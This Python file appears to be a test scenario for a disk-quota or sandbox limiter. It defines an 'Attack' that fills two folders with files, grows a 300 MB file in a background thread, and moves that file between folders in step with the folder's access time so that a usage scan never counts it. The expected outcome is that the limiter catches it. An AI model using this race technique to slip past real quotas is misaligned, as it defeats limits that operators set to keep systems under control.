"""Success: files are moved to where the count has already been, and so never counted.

Outcome: failed: files were larger than the limit|more files than the limit
"""

import threading, time

SIZE = 300 << 20


class Attack(Scene):
    def construct(self):
        places = ["a", "b"]
        for place in places:
            os.mkdir(place)
            for number in range(800):
                open(f"{place}/{number}", "w").close()
        first = next(name for name in os.listdir() if name in places)
        second = "ab".replace(first, "")
        hoard = open(f"{second}/hoard", "wb", buffering=0)
        self.over = None
        threading.Thread(target=self.grow, args=[hoard], daemon=True).start()
        # A folder's time of last access tells that it was read.
        deadline = time.monotonic() + 12
        before = os.stat(first).st_atime_ns
        while time.monotonic() < deadline and self.over is None:
            if (now := os.stat(first).st_atime_ns) != before:
                os.rename(f"{second}/hoard", f"{first}/hoard")
                time.sleep(0.1)
                os.rename(f"{first}/hoard", f"{second}/hoard")
                before = os.stat(first).st_atime_ns
        if self.over:
            raise self.over

    def grow(self, hoard):
        try:
            written = 0
            while written < SIZE:
                written += hoard.write(bytes(1 << 20))
                time.sleep(0.005)
        except OSError as error:
            self.over = error
